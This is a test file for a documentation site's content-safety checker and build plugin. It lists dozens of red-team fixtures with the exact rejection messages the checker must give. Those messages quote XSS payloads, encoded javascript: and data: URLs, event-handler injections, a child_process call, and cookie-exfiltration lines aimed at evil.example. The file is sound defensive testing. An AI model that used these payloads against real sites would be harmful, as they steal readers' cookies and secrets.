/**
 * The red-team suite: one fixture per way content from a pull request could run code at build
 * time, run script or styles in readers' browsers, send readers elsewhere, or crash the build
 * without naming the file (issue 10). Each must be rejected with exactly these problems, at these
 * lines and columns, by the content check; and the Vite plugin must stop the build on the same
 * file, at the same place, before the MDX compiler sees it. (real-content.test.ts checks that
 * the real content and the good fixtures stay free of problems.)
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkMdxSource, checkYamlText, HTML_ELEMENTS } from './rules/content-safety.ts';
import { MAX_FILE_BYTES, MAX_TREE_DEPTH } from './rules/mdx-source.ts';
import contentSafety, { ContentSafetyError } from '../../src/plugins/content-safety.ts';

const RED_TEAM = path.join('scripts', 'check-content', '__fixtures__', 'red-team');

/** file -> every problem, as "line:column [rule] message". */
const EXPECTED: Record<string, string[]> = {
  'attribute-expression.mdx': [
    "8:7 [mdx-expression] <Cite id={'blog-' + process.env.GITHUB_TOKEN}> uses an expression: content may not contain code.",
  ],
  'base-href.mdx': ['8:1 [html-element] <base> is not allowed in content.'],
  'button-formaction.mdx': [
    '8:1 [html-element] <button> is not allowed in content.',
    '8:9 [unsafe-url] <button formAction="javascript:alert(1)"> is a "javascript:" URL.',
  ],
  'closing-delimiter.mdx': ['4:4 [html-element] <script> is not allowed in content.'],
  'comment-then-code.mdx': [
    '8:1 [mdx-expression] The expression {/* just a note */ process.exit(1)} is code: content may not contain JavaScript expressions.',
  ],
  'component-bad-value.mdx': ['8:10 [component-prop] <Callout type="info">: "info" is not a valid type.'],
  'component-unknown-prop.mdx': ['8:21 [component-prop] <Callout> has no "onClick" prop.'],
  'custom-element.mdx': [
    '8:1 [html-element] <x-widget> is not allowed in content.',
    `8:11 [html-attribute] <x-widget onClick="…"> is an event handler: it would run script in readers' browsers.`,
  ],
  'data-image.mdx': ['8:1 [unsafe-url] The image ![…](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) is a "data:" URL.'],
  'data-url-link.mdx': ['8:1 [unsafe-url] The link […](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) is a "data:" URL.'],
  'deep-elements.mdx': [
    '8:236 [nesting] Content here is nested 49 levels deep; at most 48 are allowed, and deeper nesting cannot be compiled.',
  ],
  'deep-list.mdx': [
    '8:1 [nesting] This line starts with 2000 characters of indentation and list or quote markers: content nested this deeply cannot be compiled.',
  ],
  'deep-quote.mdx': [
    '8:1 [nesting] This line starts with 1001 characters of indentation and list or quote markers: content nested this deeply cannot be compiled.',
  ],
  'definition-javascript.mdx': ['10:1 [unsafe-url] The link […]: javascript:alert(1) is a "javascript:" URL.'],
  'details-ontoggle.mdx': [
    '8:1 [html-element] <details> is not allowed in content.',
    `8:15 [html-attribute] <details onToggle="…"> is an event handler: it would run script in readers' browsers.`,
    '8:35 [html-element] <summary> is not allowed in content.',
  ],
  'double-encoded-javascript.mdx': ['8:1 [unsafe-url] The link […](javascript&colon;alert(1)) is a "javascript:" URL.'],
  'entity-colon-javascript.mdx': [
    '8:1 [html-element] <a> is not allowed in content.',
    '8:4 [unsafe-url] <a href="javascript:alert(1)"> is a "javascript:" URL.',
  ],
  'entity-tab-javascript.mdx': ['8:1 [unsafe-url] The link […](java\\tscript:alert(1)) is a "javascript:" URL.'],
  'env-home.mdx': ['8:39 [mdx-expression] The expression {process.env.HOME} is code: content may not contain JavaScript expressions.'],
  'exec-child-process.mdx': [
    "8:1 [mdx-expression] The expression {process.getBuiltinModule('child_process').execSync('id').…} is code: content may not contain JavaScript expressions.",
  ],
  'export-const.mdx': [
    '8:1 [mdx-import-export] An MDX export ("export const secrets = Object.keys(process.env);"): content may not import or export code.',
  ],
  'fence-trick.mdx': [
    '12:1 [html-element] <script> is not allowed in content.',
    `12:9 [mdx-expression] The expression {"fetch('https://evil.example/?c=' + document.cookie)"} is code: content may not contain JavaScript expressions.`,
  ],
  'form-phishing.mdx': ['8:1 [html-element] <form> is not allowed in content.', '9:3 [html-element] <input> is not allowed in content.'],
  'fragment-set-html.mdx': ["8:1 [component] <Fragment> is not one of the site's components."],
  'frontmatter-html.mdx': [
    '3:14 [frontmatter-html] This value contains HTML ("<img…"): front matter is shown as plain text, so markup would appear literally and is never allowed.',
  ],
  'handler-on-allowed-element.mdx': [
    `8:12 [html-attribute] <kbd onMouseOver="…"> is an event handler: it would run script in readers' browsers.`,
  ],
  'hex-entity-javascript.mdx': ['8:1 [unsafe-url] The link […](javascript:alert(1)) is a "javascript:" URL.'],
  'html-comment.mdx': [
    '8:2 [mdx-syntax] MDX cannot parse this: Unexpected character `!` (U+0021) before name, expected a character that can start a name, such as a letter, `$`, or `_` (note: to create a comment in MDX, use `{/* text */}`).',
  ],
  'iframe-srcdoc.mdx': [
    '8:1 [html-element] <iframe> is not allowed in content.',
    '8:9 [html-attribute] <iframe srcdoc="…"> embeds a whole HTML document.',
  ],
  'img-onerror.mdx': [
    '8:1 [html-element] <img> is not allowed in content.',
    `8:19 [html-attribute] <img onError="…"> is an event handler: it would run script in readers' browsers.`,
  ],
  'import-node-fs.mdx': [`8:1 [mdx-import-export] An MDX import ("import fs from 'node:fs';"): content may not import or export code.`],
  'internal-prop.mdx': ['8:25 [component-prop] <Cite>: "n" is set by the site and may not be written in content.'],
  'jsx-fragment.mdx': ['8:1 [component] A JSX fragment <>…</> is not content.'],
  'jsx-in-attribute.mdx': [
    '8:21 [mdx-expression] <Callout title={<script>alert(1)</script>}> uses an expression: content may not contain code.',
  ],
  'jsx-spread-props.mdx': [
    "8:10 [mdx-expression] <Callout {...{ type: 'tip', title: 'x' }}> spreads an expression into the props: content may not contain code.",
  ],
  'leading-space-javascript.mdx': [
    '8:1 [html-element] <a> is not allowed in content.',
    '8:4 [unsafe-url] <a href="  javascript:alert(1)"> is a "javascript:" URL.',
  ],
  'link-stylesheet.mdx': ['8:1 [html-element] <link> is not allowed in content.'],
  'math-href.mdx': [
    '8:1 [html-element] <math> is not allowed in content.',
    '8:7 [html-element] <mi> is not allowed in content.',
    '8:11 [unsafe-url] <mi href="javascript:alert(1)"> is a "javascript:" URL.',
  ],
  'meta-refresh.mdx': [
    '8:1 [html-element] <meta> is not allowed in content.',
    `8:7 [html-attribute] <meta httpEquiv="refresh"> sets an HTTP header from inside the page (a refresh sends readers to another site; a policy can loosen the site's).`,
  ],
  'newline-in-url.mdx': [
    '8:1 [html-element] <a> is not allowed in content.',
    '8:4 [unsafe-url] <a href="java\\nscript:alert(1)"> is a "javascript:" URL.',
  ],
  'noscript-mutation.mdx': [
    '8:1 [html-element] <noscript> is not allowed in content.',
    '8:11 [html-element] <p> is not allowed in content.',
  ],
  'object-embed.mdx': ['8:1 [html-element] <object> is not allowed in content.', '10:1 [html-element] <embed> is not allowed in content.'],
  'prompt-component-props.mdx': ['8:13 [component-prop] <PromptCard> has no "prompt" prop.'],
  'protocol-relative-link.mdx': [
    '8:1 [unsafe-url] The link […](//evil.example/guide/) is a protocol-relative URL ("//host"), which loads another site.',
  ],
  'style-attribute.mdx': ['8:10 [html-attribute] <sup style="…">: inline styles are not allowed in content.'],
  'style-hides-main.mdx': [
    '8:1 [html-element] <style> is not allowed in content.',
    `8:8 [mdx-expression] The expression {"main { display: none } body::after { content: 'Site move…} is code: content may not contain JavaScript expressions.`,
  ],
  'svg-onload.mdx': [
    '8:1 [html-element] <svg> is not allowed in content.',
    `8:6 [html-attribute] <svg onLoad="…"> is an event handler: it would run script in readers' browsers.`,
    '8:24 [html-element] <circle> is not allowed in content.',
  ],
  'svg-xlink-href.mdx': [
    '8:1 [html-element] <svg> is not allowed in content.',
    '8:6 [html-element] <a> is not allowed in content.',
    '8:9 [unsafe-url] <a xlink:href="javascript:alert(1)"> is a "javascript:" URL.',
    '8:42 [html-element] <text> is not allowed in content.',
  ],
  'template-script.mdx': [
    '8:1 [html-element] <template> is not allowed in content.',
    '8:11 [html-element] <script> is not allowed in content.',
  ],
  'text-expression.mdx': [
    "8:17 [mdx-expression] The expression {globalThis.fetch('https://evil.example/?' + document.cookie)} is code: content may not contain JavaScript expressions.",
  ],
  'tracking-pixel.mdx': [
    '8:1 [unsafe-url] The image ![…](https://evil.example/pixel.gif?page=loop) is an image from another site (https:).',
  ],
  'unescape-html-import.mdx': [
    `8:1 [mdx-import-export] An MDX import ("import { unescapeHTML } from 'astro/runtime/server/index.…"): content may not import or export code.`,
    "10:1 [mdx-expression] The expression {unescapeHTML('<scr' + 'ipt>alert(1)</scr' + 'ipt>')} is code: content may not contain JavaScript expressions.",
  ],
  'unknown-component.mdx': ["8:1 [component] <Evil> is not one of the site's components."],
  'uppercase-script.mdx': ["8:1 [component] <SCRIPT> is not one of the site's components."],
  'vbscript-url.mdx': ['8:1 [unsafe-url] The link […](vbscript:msgbox(1)) is a "vbscript:" URL.'],
  'yaml-html.yaml': [
    '3:6 [frontmatter-html] This value contains HTML ("<script…"): front matter is shown as plain text, so markup would appear literally and is never allowed.',
  ],
  'yaml-javascript-url.yaml': ['4:6 [unsafe-url] This value is a "javascript:" URL.'],
};

function problemsOf(file: string, source = readFileSync(file, 'utf8')): string[] {
  const problems = file.endsWith('.mdx') ? checkMdxSource(source) : checkYamlText(source, source, 0);
  return problems.map((p) => `${file}:${p.line}:${p.column} [${p.rule}] ${p.message}`);
}

/** Calls the plugin's transform hook as Vite would (awaiting it, as Vite does), returning what it threw. */
async function transformError(file: string): Promise<unknown> {
  const plugin = contentSafety();
  const hook = plugin.transform as { handler: (code: string, id: string) => unknown };
  try {
    await hook.handler.call({}, readFileSync(file, 'utf8'), path.resolve(file));
  } catch (error) {
    return error;
  }
  return undefined;
}

describe('red-team fixtures', () => {
  it('has at least 40 attacks, each listed here', () => {
    const files = readdirSync(RED_TEAM).sort();
    expect(files.length).toBeGreaterThanOrEqual(40);
    expect(files).toEqual(Object.keys(EXPECTED).sort());
  });

  it.each(Object.entries(EXPECTED))('rejects %s with file:line:column, rule and message', (name, expected) => {
    const file = path.join(RED_TEAM, name).replace(/\\/g, '/');
    expect(expected.length).toBeGreaterThan(0);
    expect(problemsOf(file)).toEqual(expected.map((line) => `${file}:${line}`));
  });

  it.each(Object.keys(EXPECTED).filter((name) => name.endsWith('.mdx')))('stops the build on %s before it is compiled', async (name) => {
    const file = path.join(RED_TEAM, name);
    const error = await transformError(file);
    expect(error).toBeInstanceOf(ContentSafetyError);
    const [line, column] = EXPECTED[name]![0]!.split(' ')[0]!.split(':').map(Number);
    expect((error as ContentSafetyError).loc).toEqual({ file: path.resolve(file), line, column });
    expect((error as Error).message.startsWith(`${file.replace(/\\/g, '/')}:${line}:${column}: `)).toBe(true);
    expect((error as ContentSafetyError).hint.length).toBeGreaterThan(10);
  });
});

describe('what content may contain', () => {
  const page = [
    '---',
    'title: Allowed',
    'description: Everything content may use, which must pass.',
    '---',
    '',
    '## Allowed',
    '',
    '{/* A comment for editors: never compiled into the page. */}',
    '',
    'Press <kbd>Ctrl</kbd> + <kbd>K</kbd>; H<sub>2</sub>O, 10<sup>6</sup>, <abbr title="Content delivery network">CDN</abbr>.<br />',
    '',
    '[A post](https://netflixtechblog.com/), [mail](mailto:someone@example.com), [a guide](/guides/loop/), [a section](#allowed), [up](../loop/).',
    '',
    '![A diagram](/images/diagram.png)',
    '',
    '<Callout type="tip" title="Scope first">Ask before you draw. <Cite id="netflix-post" /></Callout>',
    '',
    '<MistakePair id="sample-pair" level="4" />',
    '',
    '```html',
    '<script>alert("shown as code, never run")</script>',
    '```',
    '',
    'Inline code is text too: `<style>{main}</style>` and `{process.env.HOME}`; an escaped \\{brace\\}.',
    '',
  ].join('\n');

  it('accepts Markdown, comments, the allowed elements, safe links and components', () => {
    expect(checkMdxSource(page)).toEqual([]);
    expect(Object.keys(HTML_ELEMENTS)).toEqual(['abbr', 'br', 'kbd', 'sub', 'sup']);
  });

  it('refuses a file too large to compile safely, naming the limit', () => {
    const huge = `---\ntitle: Huge\n---\n\n${'A sentence of ordinary text. '.repeat(MAX_FILE_BYTES / 20)}\n`;
    expect(checkMdxSource(huge).map((p) => `${p.line}:${p.column} [${p.rule}] ${p.message}`)).toEqual([
      `1:1 [file-size] The file is ${Math.round(Buffer.byteLength(huge) / 1024)} KB; a content file may be at most 512 KB.`,
    ]);
  });

  it('reports the deepest allowed nesting as fine and one level more as a problem', () => {
    // Each <sub> adds two tree levels (the element, and the paragraph for the first one).
    const nested = (depth: number) => `${'<sub>'.repeat(depth)}x${'</sub>'.repeat(depth)}\n`;
    expect(checkMdxSource(nested(MAX_TREE_DEPTH - 2))).toEqual([]);
    expect(checkMdxSource(nested(MAX_TREE_DEPTH)).map((p) => p.rule)).toEqual(['nesting']);
  });
});

describe('the Vite plugin', () => {
  it('runs before the MDX compiler: pre-enforced, with a pre-ordered transform', () => {
    const plugin = contentSafety();
    expect(plugin.enforce).toBe('pre');
    expect((plugin.transform as { order?: string }).order).toBe('pre');
  });

  it('is registered in astro.config.mjs ahead of every other Vite plugin', async () => {
    const { default: config } = (await import('../../astro.config.mjs')) as { default: { vite: { plugins: { name: string }[] } } };
    expect(config.vite.plugins[0]!.name).toBe('netflix-loop-guide:content-safety');
  });

  it('lets safe MDX through untouched', async () => {
    const plugin = contentSafety();
    const hook = plugin.transform as { handler: (code: string, id: string) => unknown };
    expect(await hook.handler.call({}, '## Fine\n\nText with a [link](/guides/loop/).\n', '/x/content/guides/a.mdx')).toBeNull();
  });
});
